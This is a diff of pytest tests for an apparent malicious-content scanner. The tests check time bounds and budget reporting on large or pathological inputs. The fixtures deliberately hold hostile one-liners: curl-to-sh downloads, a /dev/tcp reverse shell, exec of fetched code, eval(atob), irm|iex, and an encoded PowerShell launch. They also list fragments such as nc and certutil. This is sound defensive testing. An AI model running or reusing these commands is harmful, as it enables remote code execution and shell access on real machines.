@@ -22,14 +22,22 @@ JAVASCRIPT = (
 )  # fmt: skip
 WINDOWS = ("iex ", "irm a;", "$a=irm $a;", "certutil ")
 BLOBS = ("12, ", "%41", "\\x41", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo= ", "A\n", "nc ")
-SECONDS = 60
+SECONDS = 30
 """For the whole table, on a slow machine; each text alone takes far less than a second."""
 
 
 def _texts(pieces: Sequence[str]) -> list[str]:
     lines = "\n".join(f"a{number}=$b" for number in range(100_000))
-    repeated = [piece * (MEGA // len(piece)) for piece in pieces]
-    return [*repeated, lines, "QUJD" * (MEGA // 4), "curl -s " + "(" * 100_000 + "| sh"]
+    repeated = [piece * (MEGA // 5 // len(piece)) for piece in pieces]
+    every = "".join(piece * 40 for piece in pieces)
+    return [
+        *repeated,
+        every * (MEGA // len(every)),
+        "$(" * (MEGA // 2),
+        lines,
+        "QUJD" * (MEGA // 4),
+        "curl -s " + "(" * 100_000 + "| sh",
+    ]
 
 
 @pytest.mark.parametrize(
@@ -59,7 +67,37 @@ def test_hostile_python_is_read_within_a_bound(code: str) -> None:
     assert time.process_time() - begun < SECONDS
 
 
-def test_what_is_too_large_to_follow_is_told() -> None:
-    script = view({"a.sh": "echo hello\n" * 50_000})
-    report = run(script, RULES, Options())
-    assert [(one.path, one.reason) for one in report.unread] == [("a.sh", "budget")]
+DENSE = {
+    "a.sh": "curl http://a|sh\n",
+    "b.sh": "bash -i >& /dev/tcp/a/1 0>&1\n",
+    "a.py": "exec(requests.get(u).text)\n",
+    "a.js": "eval(atob('a'));\n",
+    "a.ps1": "irm http://a|iex\n",
+    "a.rb": "system('curl http://a|sh')\n",
+    "a.txt": "http://93.184.216.34 powershell -e QUJDREVGR0hJSktMQUJDREVGR0hJSktM\n",
+}
+
+
+def test_thousands_of_true_hits_are_read_within_a_bound() -> None:
+    begun = time.process_time()
+    rules = [rule for rule in RULES if rule.family in ("EX", "OB")]
+    for name, row in DENSE.items():
+        run(view({name: row * (MEGA // len(row) // 8)}), rules, Options())
+    assert time.process_time() - begun < SECONDS
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("a.sh", "echo hello\n" * 50_000),
+        ("a.sh", "curl http://a|sh\n" * 600),
+        ("a.sh", "x " + "$(echo " * 9 + ")" * 9),
+        ("a.py", "x = 1\n" * 40_000),
+        ("a.txt", "curl http://a|sh\n" * 5_000),
+        ("a.txt", "QUJDREVGR0hJSktMQUJDREVGR0hJSktM\n\n" * 300),
+        ("a.js", "eval(atob('a'));\n" * 50_000),
+    ],
+)
+def test_what_is_too_much_to_follow_is_told(name: str, text: str) -> None:
+    report = run(view({name: text}), RULES, Options())
+    assert {(one.path, one.reason) for one in report.unread} == {(name, "budget")}
